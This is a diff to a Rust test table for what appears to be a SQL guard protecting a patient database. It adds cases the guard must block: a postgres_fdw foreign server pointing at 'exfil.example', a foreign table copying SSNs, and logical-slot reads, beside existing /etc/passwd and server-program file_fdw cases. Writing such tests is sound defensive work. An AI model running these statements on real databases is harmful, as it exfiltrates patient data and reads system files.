@@ -56,6 +56,15 @@ fn baseline_table() {
         ("create user mallory", Verdict::Block, "baseline.role-ddl"),
         ("grant select on patients to public", Verdict::Block, "baseline.grants"),
         ("do $$ begin execute 'drop table patients'; end $$", Verdict::Block, "baseline.opaque-code"),
+        ("alter extension postgres_fdw update", Verdict::Block, "baseline.opaque-code"),
+        ("create server away foreign data wrapper postgres_fdw options (host 'exfil.example')", Verdict::Block, "baseline.foreign-data"),
+        ("create user mapping for current_user server away options (user 'x', password 'y')", Verdict::Block, "baseline.foreign-data"),
+        ("alter server away options (set host 'exfil.example')", Verdict::Block, "baseline.foreign-data"),
+        ("import foreign schema public from server away into staging", Verdict::Block, "baseline.foreign-data"),
+        ("create foreign table remote_copy (id int, ssn text) server away", Verdict::Block, "baseline.foreign-data"),
+        ("create foreign data wrapper mine", Verdict::Block, "baseline.foreign-data"),
+        ("select data from pg_logical_slot_get_changes('s', null, null)", Verdict::Block, "baseline.dangerous-function"),
+        ("select * from pg_catalog.pg_logical_slot_peek_changes('s', null, null)", Verdict::Block, "baseline.dangerous-function"),
         ("prepare p as delete from labs", Verdict::Block, "baseline.unfiltered-write"),
         ("explain analyze delete from labs", Verdict::Block, "baseline.unfiltered-write"),
         ("select 1; drop table patients", Verdict::Block, "baseline.drop-phi"),
@@ -478,7 +487,7 @@ fn file_fdw_reads_server_files_and_runs_server_programs() {
         ("create foreign table ft (l text) server files options (filename '/etc/passwd', format 'csv')", Verdict::Block, "baseline.copy-server-side"),
         ("alter foreign table ft options (set program 'id')", Verdict::Block, "baseline.copy-server-side"),
         ("alter foreign table ft options (add filename '/etc/passwd')", Verdict::Block, "baseline.copy-server-side"),
-        ("create foreign table ft (l text) server remote options (table_name 'x')", Verdict::Allow, "default"),
+        ("create foreign table ft (l text) server remote options (table_name 'x')", Verdict::Block, "baseline.foreign-data"),
     ]);
 }
 
